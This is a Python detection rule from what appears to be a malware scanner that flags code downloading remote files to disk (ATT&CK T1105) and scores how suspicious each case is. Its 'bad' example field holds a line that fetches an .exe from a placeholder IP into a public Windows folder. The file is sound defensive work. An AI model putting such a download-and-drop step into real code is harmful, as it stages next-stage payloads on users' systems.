"""A file that is fetched and kept."""

from __future__ import annotations

import re
from collections.abc import Iterator

from antivenom.pycode.evaluate.values import text_of
from antivenom.pycode.facts import Fact
from antivenom.pycode.rules.kit import (
    Case,
    Rule,
    Seen,
    is_installer,
    is_ip,
    is_local,
    of_traits,
    origins,
    path_role,
    taint_of_role,
    url_of,
    where_of_url,
)  # fmt: skip
from antivenom.pycode.rules.paths import is_executable, is_hidden, is_memory, is_writable


def check(case: Case) -> Iterator[Seen]:
    """Downloads that name a file, and files that downloaded bytes are written to."""
    for fact in case.of("download"):
        yield _seen(case, fact, fact)
    for fact in case.of("write", "copy stream"):
        sources = origins(taint_of_role(fact, "data", "source"), "fetch", "receive", "download")
        if sources and not origins(taint_of_role(fact, "fd"), "memfd", "process", "socket"):
            yield _seen(case, sources[0], fact)
    yield from of_traits(case, "download_write")


def _seen(case: Case, source: Fact, write: Fact) -> Seen:
    url = url_of(source)
    path = path_role(write) or text_of(write.role("target")) or ""
    named = f"It downloads {url or 'a file'} and keeps it" + (f" as {path}." if path else ".")
    return Seen(_score(case, source, write, url, path), named, (source, write) if source is not write else (source,))


_ABSOLUTE = re.compile(r"^(?:/|~|[A-Za-z]:[\\/]|\\\\|%)")


def _score(case: Case, source: Fact, write: Fact, url: str, path: str) -> int:
    where = where_of_url(url)
    if case.hosted:
        return 82
    chosen = [one for one in source.taint | write.taint if one.kind in ("environment", "argument")]
    if len(chosen) >= 2 and case.one_liner:
        return 62
    if is_installer(url) or is_local(where.host):
        return 24
    open_air = is_ip(where.host) or url.lower().startswith(("http:", "ftp:"))
    if is_memory(path) or is_hidden(path):
        return 60
    if open_air and (is_executable(path) or is_writable(path) or _ABSOLUTE.match(path)):
        return 55
    if is_executable(path) and (is_writable(path) or path.lower().endswith((".exe", ".dll", ".scr", ".ps1", ".hta"))):
        return 52
    return 45 if open_air and is_ip(where.host) else 30


RULE = Rule(
    id="download_write",
    title="Download to a file",
    attack=("T1105",),
    why="A file brought from outside may be the next stage.",
    bad="urllib.request.urlretrieve('http://192.0.2.10/a.exe', r'C:\\\\Users\\\\Public\\\\a.exe')",
    good="print(urllib.request.urlopen(url).status)",
    references=("https://attack.mitre.org/techniques/T1105/",),
    wakes=frozenset({"download", "write", "copy stream", "process"}),
    check=check,
)
